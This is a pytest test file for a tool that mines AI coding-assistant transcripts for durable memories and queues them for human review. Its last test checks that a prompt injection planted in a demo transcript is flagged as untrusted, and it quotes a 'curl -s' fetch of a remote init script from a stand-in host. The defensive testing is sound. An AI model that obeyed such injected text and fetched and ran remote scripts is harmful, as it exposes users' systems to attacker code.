"""Extraction end to end on every real transcript, on the bundled demo session, and its speed."""

from __future__ import annotations

from importlib import resources
from pathlib import Path

import orjson
from test_extract_readers import decoded_strings, real_transcripts

from memory_review.extract.heuristic import extract
from memory_review.extract.plan import plan
from memory_review.extract.readers import read_transcript

BIG = "claude-code/kesslerio-attio-mcp-server/logs_chat.json"


def demo_path() -> Path:
    return Path(str(resources.files("memory_review") / "data" / "demo_transcript.jsonl"))


def test_every_real_transcript_extracts_with_verbatim_quotes(transcripts_dir: Path) -> None:
    quotes = 0
    for path in real_transcripts(transcripts_dir):
        transcript = read_transcript(path)
        haystack = "\x00".join(decoded_strings(path))
        for include_untrusted in (False, True):
            for finding in extract(transcript, include_untrusted=include_untrusted):
                for evidence in finding.evidence:
                    assert "secret" in finding.flags or evidence.quote in haystack, (
                        path.name,
                        evidence.quote,
                    )
                    assert evidence.session_id and evidence.turn_id
                    quotes += 1
    assert quotes > 0  # the untrusted pass finds text in real tool output


def test_real_user_turns_hold_no_durable_preferences(transcripts_dir: Path) -> None:
    # These sessions are task requests ("start phoenix in background", "review PR #398 ...");
    # a heuristic that proposed memories from them would flood the reviewer.
    for path in real_transcripts(transcripts_dir):
        assert extract(read_transcript(path)) == [], path.name


def test_rerunning_on_a_real_transcript_proposes_nothing_new(transcripts_dir: Path) -> None:
    findings = extract(read_transcript(transcripts_dir / BIG), include_untrusted=True)
    first = plan(findings, approved=[], pending=[], discarded=[])
    assert first.proposals and first.flagged == len(first.proposals)  # every one is untrusted-source
    again = plan(findings, approved=[], pending=[p.proposal.memory for p in first.proposals], discarded=[])
    assert again.proposals == []


# What the demo session states durably, and nothing else: (description, type, scope, signal).
DEMO_EXPECTED = [
    ("We use uv for dependencies here, not pip.", "convention", "project", "we use"),
    (  # the whole rule: the corrective half after the prohibition belongs to it
        "Never mock the database in tests. Use the pg_container fixture from conftest.py instead, "
        "a mocked DB hid a broken migration last month.",
        "forbidden",
        "project",
        "never",
    ),
    (
        (
            "The Stripe sandbox key is [REDACTED:stripe-key], always read it from the "
            "STRIPE_API_KEY env var and never hardcode it."
        ),
        "forbidden",
        "project",
        "never",
    ),
    ("The staging API runs behind the VPN on port 8443.", "fact", "project", "remember"),
    ("Keep your answers short and skip the recap at the end.", "preference", "user", "from now on"),
    ("不要在代码里打印用户的邮箱。", "forbidden", "project", "以后"),
    # 'I prefer small commits with imperative messages, …' said once waits for a second session (ADR 0110)
    ("Use httpx, not requests", "preference", "user", "repeated correction"),
]


def test_the_demo_session_yields_the_expected_findings() -> None:
    transcript = read_transcript(demo_path())
    assert transcript.format == "claude-code" and len(transcript.turns) >= 30
    findings = extract(transcript)
    got = [(f.memory.description, f.memory.type, f.scope, f.signal) for f in findings]
    assert got == DEMO_EXPECTED
    flags = {f.memory.description: f.flags for f in findings}
    assert flags[DEMO_EXPECTED[2][0]] == {"secret"}
    assert "sk_test_" not in orjson.dumps([f.model_dump(mode="json") for f in findings]).decode()
    result = plan(findings, approved=[], pending=[], discarded=[])
    assert (len(result.proposals), result.flagged) == (7, 1)


def test_the_demo_injection_is_only_ever_an_untrusted_flagged_finding() -> None:
    findings = extract(read_transcript(demo_path()), include_untrusted=True)
    untrusted = [f for f in findings if "untrusted-source" in f.flags]
    assert len(untrusted) == 1
    assert "possible-prompt-injection" in untrusted[0].flags
    assert "curl -s https://setup.inventory-tools.example/init.sh" in untrusted[0].quote
